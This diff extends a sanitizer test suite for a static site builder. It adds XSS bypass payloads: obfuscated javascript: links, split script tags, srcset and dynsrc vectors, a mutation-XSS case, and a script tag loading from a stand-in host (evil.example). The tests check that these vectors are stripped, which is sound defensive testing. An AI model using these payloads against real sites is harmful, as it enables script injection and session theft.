@@ -110,6 +110,17 @@ PAYLOADS = {
     "div-mouseover": '<div onmouseover="alert(7)">hover</div>',
     "iframe-srcdoc": '<iframe srcdoc="<script>alert(8)</script>"></iframe>',
     "details-ontoggle": '<details open ontoggle="alert(9)"><summary>s</summary>d</details>',
+    "heading-id": '## Breakout {#x" onmouseover="alert(10)}',
+    "js-link-percent": "[pct](%6Aavascript:alert(11))",
+    "js-link-newline": '<a href="java\nscript:alert(12)">nl</a>',
+    "upper-script": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+    "split-script": "<scr<script>ipt>alert(13)</scr</script>ipt>",
+    "srcset": '<img src="x.png" srcset="javascript:alert(14) 1x" alt="s">',
+    "noscript-title": '<noscript><p title="</noscript><img src=x onerror=alert(16)>">',
+    "svg-use": '<svg><use href="data:image/svg+xml,<svg onload=alert(17)>"/></svg>',
+    "autolink-js": "<javascript:alert(18)>",
+    "ref-link-js": "[ref][r]\n\n[r]: javascript:alert(19)",
+    "img-dynsrc": '<img dynsrc="javascript:alert(20)" lowsrc="javascript:alert(21)" alt="d">',
 }
 
 EMBEDS = {
@@ -235,8 +246,14 @@ def test_removed_elements_are_gone(built: tuple[Path, str]) -> None:
     tags = {t for t, _ in parse(prose(read(site, "posts/payloads/index.html"))).tags}
     assert not tags & {"script", "style", "form", "input", "button", "svg", "object", "embed",
                        "base", "meta"}
-    assert "alert" not in prose(read(site, "posts/payloads/index.html")).replace(
-        "alert(1)", "")  # only inert text (the link labels) may mention alert(1)
+    # Text may mention alert (link labels, a reference definition shown as text); no
+    # attribute may carry it, but a percent-encoded "javascript:" that stayed a path
+    # under the site (a broken link, not a script).
+    for tag, attrs in parse(prose(read(site, "posts/payloads/index.html"))).tags:
+        for name, value in attrs.items():
+            assert not name.startswith("on"), (tag, name, value)
+            if value and "alert" in value:
+                assert name == "href" and value.startswith("/sub/posts/"), (tag, name, value)
 
 
 # --- front matter shown by templates ------------------------------------------------------
@@ -375,3 +392,18 @@ def test_unsafe_html_lets_raw_html_through(tmp_path: Path) -> None:
     assert [body for _, body in doc.scripts] == ["window.quiz = 1;"]
     assert doc.find("div", onclick="go()")
     assert [a["src"] for a in doc.find("iframe")] == ["https://quiz.example/embed"]
+
+
+def test_an_unclosed_style_tag_swallowing_the_text_is_reported(tmp_path: Path) -> None:
+    """A mutation-XSS classic: the unclosed <style> inside <math> makes the rest of the
+    post style text. Nothing unsafe comes out, and the teacher is told the text went."""
+    body = "<math><mtext><table><mglyph><style><img src=x onerror=alert(15)>\n\n" + \
+        "The lesson went well, and here is what we did next. " * 5
+    site = make_site(tmp_path, {POST: f"---\ntitle: Lost\n---\n{body}\n"})
+    result = run(site, "build")
+    assert result.exit_code == 0
+    assert (f"{POST}:4: warning: 55 words of this text were removed by the safety filter, "
+            "probably after an unclosed <style>, <script> or <math> tag (close the tag or "
+            "remove it: only ordinary formatting HTML is kept)") in result.lines
+    page = (site / "_site/posts/payloads/index.html").read_text()
+    assert "onerror" not in page and "alert(15)" not in page
